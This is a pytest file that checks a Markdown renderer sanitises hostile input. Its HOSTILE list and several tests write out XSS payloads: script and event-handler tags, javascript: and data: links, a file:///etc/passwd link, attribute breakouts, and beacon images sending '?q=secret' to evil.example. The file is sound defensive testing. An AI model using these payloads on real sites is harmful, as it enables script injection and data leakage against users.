import html
import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from lib.api.markdown import answer_html, first_heading, manual_html, slug
from tests.api.made_up import ANSWER

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<style>body{display:none}</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](/api/admin/sources)",
    "[x](#/status)",
    "<javascript:alert(1)>",
    "![beacon](https://evil.example/pixel.png?q=secret)",
    "![beacon][1]\n\n[1]: https://evil.example/pixel.png",
    "[![x](https://evil.example/p.png)](https://example.com)",
    "<b onmouseover=alert(1)>x</b>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<!-- <img src=x onerror=alert(1)> -->",
    '[x](https://example.com "onmouseover=alert(1)")',
    '[x](https://example.com" onclick="alert(1))',
    "x" * 20 + "[" * 3_000,
    "> " * 500 + "x",
    "<" * 5_000,
    "\x00<script>\x00alert(1)</script>",
]

ALLOWED = set("p br hr strong em s code pre blockquote ul ol li table thead tbody tr th td h3 h4 h5 h6 a sup".split())


class Reader(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def parse(text: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = Reader()
    reader.feed(text)
    return reader.tags


def written(text: str) -> str:
    return answer_html(replace(ANSWER, text=text))


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: text[:40])
def test_hostile_markdown_gives_harmless_html(text):
    for tag, attributes in parse(written(text)):
        assert tag in ALLOWED
        assert set(attributes) <= {"href", "title", "class", "data-marker", "aria-label", "rel", "start"}
        href = attributes.get("href")
        assert href is None or re.match(r"https?://|/#/documents/", href)
        assert attributes.get("class") in (None, "marker")


def test_no_image_is_ever_fetched():
    assert "<img" not in written("![beacon](https://evil.example/pixel.png)")


def test_links_of_the_web_open_without_a_trace():
    [(tag, attributes)] = [(tag, a) for tag, a in parse(written("[x](https://example.com/a?b=c&d=e)")) if tag == "a"]

    assert attributes == {"href": "https://example.com/a?b=c&d=e", "rel": "noopener noreferrer nofollow"}
    assert tag == "a"


def test_formatting_is_kept():
    text = "# One\n\nA **b** *c* ~~d~~ `e`\n\n- f\n\n1. g\n\n| h | i |\n|---|---|\n| j | k |\n\n> l\n\n```\nm\n```"
    tags = {tag for tag, _ in parse(written(text))}

    assert {"h3", "p", "strong", "em", "s", "code", "ul", "li", "ol", "table", "td", "blockquote", "pre"} <= tags


def test_markers_with_a_citation_are_links_and_others_are_text():
    body = written("Yes [1][2], no [3], `[1]` and [1](https://evil.example).")

    assert [a["data-marker"] for tag, a in parse(body) if tag == "a"] == ["1", "2", "1"]
    assert "no [3]" in body
    assert "<code>[1]</code>" in body
    assert 'href="https://evil.example"' not in body


def test_a_title_cannot_break_out_of_its_attribute():
    title = '"><script>alert(1)</script>'
    citations = tuple(replace(citation, title=title) for citation in ANSWER.citations)
    body = answer_html(replace(ANSWER, citations=citations))

    assert {tag for tag, _ in parse(body)} == {"p", "sup", "a", "strong"}
    assert next(a["title"] for tag, a in parse(body) if tag == "a") == html.unescape(html.escape(title))


def test_the_manual_gets_anchors_like_github():
    body = manual_html("# A `b` c!\n\n## Twice\n\n## Twice\n\n### Ünïcode & more", resolve=lambda target: None)

    assert re.findall(r'id="([^"]*)"', body) == ["a-b-c", "twice", "twice-1", "ünïcode--more"]
    assert slug("Add a source") == "add-a-source"


def test_the_manual_shows_raw_html_instead_of_using_it():
    assert "<script" not in manual_html("a <script>x</script>\n\n<div onclick=x>", resolve=lambda target: None)


def test_links_of_the_manual_are_resolved_or_dropped():
    known = {"sources.md#x": "/manual/sources#x", "a.svg": "/manual/a.svg"}
    text = (
        "[one](sources.md#x) [two](../secret) ![three](a.svg) ![four](gone.png) [five](https://example.com) [6](#here)"
    )
    body = manual_html(text, resolve=known.get)

    assert [a["href"] for tag, a in parse(body) if tag == "a"] == ["/manual/sources#x", "https://example.com", "#here"]
    assert [a["src"] for tag, a in parse(body) if tag == "img"] == ["/manual/a.svg"]
    assert "two" in body


def test_the_first_heading_is_the_title():
    assert first_heading("intro\n\n## no\n\n# A `title` here\n\n# another") == "A title here"
    assert first_heading("no heading") == ""
